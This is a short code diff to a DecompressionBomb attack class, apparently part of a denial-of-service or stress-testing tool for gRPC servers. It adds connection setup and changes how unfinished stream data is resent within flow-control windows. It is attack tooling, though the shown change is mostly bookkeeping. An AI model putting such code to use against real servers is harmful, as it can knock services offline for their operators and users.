@@ -536,11 +536,15 @@ class DecompressionBomb(Attack):
         # The gRPC prefix: compressed (1), then the length on the wire.
         self.payload = b"\x01" + len(compressed).to_bytes(4, "big") + compressed
 
+    def open(self, conn):
+        conn.unfinished = {}  # stream id: what its window has not let through yet
+        return b"", 0
+
     def batch(self, conn, count):
-        unfinished = conn.__dict__.setdefault("unfinished", {})
+        unfinished = conn.unfinished
         for stream_id, rest in list(unfinished.items()):
             rest = conn.send_data(stream_id, rest, wait=False)
-            if rest and stream_id in conn.stream_windows:
+            if rest:
                 unfinished[stream_id] = rest
             else:
                 del unfinished[stream_id]
